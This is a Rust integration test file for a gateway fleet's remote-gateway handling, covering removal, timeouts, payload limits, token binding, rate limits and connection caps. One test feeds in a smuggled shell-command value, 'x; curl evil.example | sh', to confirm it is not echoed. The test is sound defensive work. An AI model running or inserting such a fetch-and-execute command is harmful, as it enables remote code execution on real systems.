//! What another gateway can do to this one, and what becomes of connections to it.

use openclaw_testkit::gateway::{Setup, TestGateway, connect_params};
use serde_json::{Value, json};

use crate::{
    far::{Far, answer, is_line, pause, refuse},
    fleet::{page, through, until},
    talk::Talk,
};

/// The gateway in between, which knows this one as `far`.
async fn knows(far: &Far, config: Value) -> (TestGateway, Talk) {
    let home = TestGateway::with_config(config).await;
    let mut talk = Talk::admin(&home).await;
    talk.ok("gateways.add", far.named("Far")).await;
    until(&mut talk, "far", "connected").await;
    (home, talk)
}

fn code(answer: &Value) -> &str {
    answer["error"]["details"]["code"].as_str().unwrap_or_default()
}

#[tokio::test]
async fn nobody_goes_on_with_a_gateway_that_was_removed() {
    // The first connection of a caller is refused while two calls wait for it; neither may be left with one that nobody knows of.
    let first = std::sync::atomic::AtomicBool::new(true);
    let far = Far::new(move |request| {
        let busy = json!({ "code": "UNAVAILABLE", "message": "busy", "details": { "code": "BUSY" } });
        let is_first = is_line(request) && first.swap(false, std::sync::atomic::Ordering::Relaxed);
        is_first.then(|| vec![pause(500), refuse(request, &busy)])
    })
    .await;
    let (_home, mut talk) = knows(&far, json!({})).await;
    let params = json!({ "id": "far", "method": "status" });
    let (one, two) =
        (talk.send("gateways.call", params.clone()).await, talk.send("gateways.call", params.clone()).await);
    for id in [one, two] {
        talk.answer(&id).await;
    }
    assert_eq!(talk.call("gateways.call", params).await["ok"], true);

    talk.ok("gateways.remove", json!({ "id": "far" })).await;
    far.until_open(0).await;
}

#[tokio::test]
async fn a_call_that_is_under_way_ends_with_its_gateway() {
    let far = Far::new(|request| (request["method"] == "slow").then(Vec::new)).await;
    let (home, mut talk) = knows(&far, json!({})).await;
    let slow = talk.send("gateways.call", json!({ "id": "far", "method": "slow", "timeoutMs": 60_000 })).await;
    far.until_asked(1, |request| request["method"] == "slow").await;
    let mut other = Talk::admin(&home).await;
    other.ok("gateways.remove", json!({ "id": "far" })).await;
    let ended = talk.answer(&slow).await;
    assert_eq!(code(&ended), "GATEWAY_LOST", "{ended}");
    assert!(ended["error"]["message"].as_str().unwrap().contains("changed or removed"), "{ended}");
    far.until_open(0).await;
}

#[tokio::test]
async fn one_deadline_spans_connection_and_answer_and_what_was_begun_is_given_back() {
    let far = Far::new(|request| is_line(request).then(Vec::new)).await;
    let (_home, mut talk) = knows(&far, json!({})).await;
    let params = json!({ "id": "far", "method": "status", "timeoutMs": 300 });
    let late = talk.call("gateways.call", params).await;
    assert_eq!(code(&late), "GATEWAY_LOST", "{late}");
    assert!(late["error"]["message"].as_str().unwrap().contains("in time"), "{late}");
    assert_eq!(talk.ok("gateways.detach", json!({ "id": "far" })).await["detached"], false, "its place is free again");
    far.until_open(1).await;
}

#[tokio::test]
async fn what_a_gateway_says_is_no_command_for_a_shell() {
    let far = Far::new(|request| {
        let details = json!({ "code": "PAIRING_REQUIRED", "requestId": "x; curl evil.example | sh" });
        let error = json!({ "code": "NOT_PAIRED", "message": "pairing required", "details": details });
        (request["method"] == "connect").then(|| vec![refuse(request, &error)])
    })
    .await;
    let home = TestGateway::start().await;
    let mut talk = Talk::admin(&home).await;
    let tested = talk.ok("gateways.test", json!({ "url": far.url, "allowPrivateNetwork": true })).await;
    assert_eq!(tested["problem"]["code"], "PAIRING_REQUIRED", "{tested}");
    assert!(!tested.to_string().contains("curl"), "{tested}");
}

#[tokio::test]
async fn what_is_too_long_for_a_caller_is_left_out_and_its_connection_stays() {
    let far = Far::new(|request| {
        let long = "x".repeat(200_000);
        let event = |name: &str, text: &str| json!({ "type": "event", "event": name, "payload": { "text": text } });
        match request["method"].as_str() {
            Some("status") => Some(vec![answer(request, &json!(long))]),
            Some("health") if request["params"]["shout"] == true => {
                Some(vec![event("chat", &long), event("chat", "short"), answer(request, &json!({}))])
            }
            _ => None,
        }
    })
    .await;
    let limits = json!({ "gateway": { "limits": { "maxPayload": 65_536, "maxBufferedBytes": 131_072 } } });
    let (_home, mut talk) = knows(&far, limits).await;
    talk.ok("gateways.attach", json!({ "id": "far" })).await;
    let refused = through(&mut talk, "far", "status", json!({})).await;
    assert_eq!(code(&refused), "ANSWER_TOO_LONG", "{refused}");
    assert!(refused["error"]["message"].as_str().unwrap().contains("gateway.limits.maxBufferedBytes"), "{refused}");

    assert_eq!(through(&mut talk, "far", "health", json!({ "shout": true })).await["ok"], true);
    let gap = talk.event("gateways.line", |line| line["state"] == "gap").await;
    assert!(gap["why"].as_str().unwrap().contains("gateway.limits.maxBufferedBytes"), "{gap}");
    let next = talk.event("gateways.event", |told| told["event"] == "chat").await;
    assert_eq!(next["payload"]["text"], "short");
}

#[tokio::test]
async fn a_token_opens_for_the_gateway_and_the_address_that_it_was_sealed_for() {
    let (far, trap) = (Far::new(|_| None).await, Far::new(|_| None).await);
    let (home, talk) = knows(&far, json!({})).await;
    drop(talk);
    let (database, from, to) = (home.dir().join("state/gateway.sqlite"), far.url.clone(), trap.url.clone());
    let meddle = move || {
        let database = rusqlite::Connection::open(database).unwrap();
        let moved = "UPDATE settings SET value = replace(value, ?1, ?2) WHERE name = 'fleet.gateways'";
        assert_eq!(database.execute(moved, [from, to]).unwrap(), 1);
    };
    let home = home.restart_after(Setup::default(), meddle).await;
    let mut talk = Talk::admin(&home).await;
    let shown = until(&mut talk, "far", "refused").await;
    assert!(shown["url"].as_str().unwrap().starts_with(&trap.url), "{shown}");
    assert_eq!(shown["problem"]["code"], "UNUSABLE", "{shown}");
    trap.until_open(0).await;
}

#[tokio::test]
async fn a_call_through_a_gateway_counts_once() {
    let far = Far::new(|_| None).await;
    let (home, mut talk) = knows(&far, json!({})).await;
    home.edit(&json!({ "security": { "rateLimit": {
        "perUser": { "windowMs": 3_600_000, "maxRequests": 4 },
        "commandLimits": { "gateways.call": { "windowMs": 3_600_000, "maxRequests": 3 } },
    } } }));
    home.reload().await;
    for _ in 0..3 {
        let called = through(&mut talk, "far", "ping", json!({})).await;
        assert_eq!(called["ok"], true, "{called}");
    }
    // A limit that names the method counts it all the same.
    let over = through(&mut talk, "far", "ping", json!({})).await;
    assert_eq!(over["error"]["details"]["rule"], "security.rateLimit.commandLimits.gateways.call", "{over}");
    assert_eq!(talk.call("ping", json!({})).await["ok"], true);
    let over = talk.call("ping", json!({})).await;
    assert_eq!(over["error"]["details"]["rule"], "security.rateLimit.perUser", "{over}");
}

#[tokio::test]
async fn a_gateway_is_connected_once_it_says_how_it_is() {
    let far = Far::new(|request| {
        let sick = json!({ "code": "UNAVAILABLE", "message": "not now", "details": { "code": "SICK" } });
        (request["method"] == "health").then(|| vec![refuse(request, &sick)])
    })
    .await;
    let home = TestGateway::start().await;
    let mut talk = Talk::admin(&home).await;
    talk.ok("gateways.add", far.named("Far")).await;
    let changed = talk.event("gateways.changed", |changed| changed["state"] != "connecting").await;
    assert_eq!(changed["state"], "waiting", "{changed}");
    far.until_asked(3, |request| request["method"] == "health").await;
    let shown = talk.ok("gateways.get", json!({ "id": "far" })).await;
    assert_eq!((&shown["state"], &shown["problem"]["code"]), (&json!("waiting"), &json!("SICK")), "{shown}");
    assert!(shown["attempts"].as_u64().unwrap() >= 2, "it is tried less and less often: {shown}");
}

#[tokio::test]
async fn a_gateway_takes_for_a_reviewer_who_follows_it_and_may_hear_of_approvals() {
    let far = Far::new(|_| None).await;
    let config = json!({ "security": { "authorization": {
        "enabled": true, "roles": { "looker": { "permissions": ["read"] } }, "users": { "vera": { "role": "looker" } },
    } } });
    let (home, mut admin) = knows(&far, config).await;
    let vera = admin.ok("gateway.token.create", json!({ "name": "vera", "scopes": ["operator.admin"] })).await;
    let mut params = page(&["operator.admin"]);
    let mut owner = Talk::with(&home, params.clone()).await;
    params["auth"]["token"] = vera["token"].clone();
    let mut looker = Talk::with(&home, params).await;
    let mut program = Talk::with(&home, connect_params(&["operator.admin"])).await;

    assert_eq!(through(&mut owner, "far", "status", json!({})).await["ok"], true);
    for talk in [&mut owner, &mut looker, &mut program] {
        talk.ok("gateways.attach", json!({ "id": "far" })).await;
    }
    let caps: Vec<Value> = far.until_asked(4, is_line).await.iter().map(|params| params["caps"].clone()).collect();
    let (looks, decides) = (json!(["tool-events"]), json!(["tool-events", "approvals"]));
    assert_eq!(caps, [looks.clone(), decides, looks, Value::Null], "whoever only calls decides nothing");
    // The connection that only called was given up for the one that follows.
    far.until_open(4).await;
}

#[tokio::test]
async fn one_caller_follows_so_many_gateways_and_no_more() {
    let far = Far::new(|_| None).await;
    let home = TestGateway::start().await;
    let mut talk = Talk::admin(&home).await;
    for at in 0..33 {
        talk.ok("gateways.add", far.named(&format!("far {at}"))).await;
    }
    for at in 0..32 {
        talk.ok("gateways.attach", json!({ "id": format!("far-{at}") })).await;
    }
    talk.ok("gateways.attach", json!({ "id": "far-0" })).await;
    let refused = talk.call("gateways.attach", json!({ "id": "far-32" })).await;
    assert_eq!(
        (code(&refused), &refused["error"]["details"]["limit"]),
        ("TOO_MANY_CONNECTIONS", &json!(32)),
        "{refused}"
    );
    assert!(refused["error"]["message"].as_str().unwrap().contains("32"), "{refused}");
    assert_eq!(through(&mut talk, "far-32", "status", json!({})).await["ok"], true, "it may be called all the same");
    talk.ok("gateways.detach", json!({ "id": "far-0" })).await;
    talk.ok("gateways.attach", json!({ "id": "far-32" })).await;

    let lost = talk.event("gateways.line", |line| line["id"] == "far-0").await;
    assert_eq!((&lost["state"], &lost["why"]), (&json!("lost"), &json!("it was detached")));
}
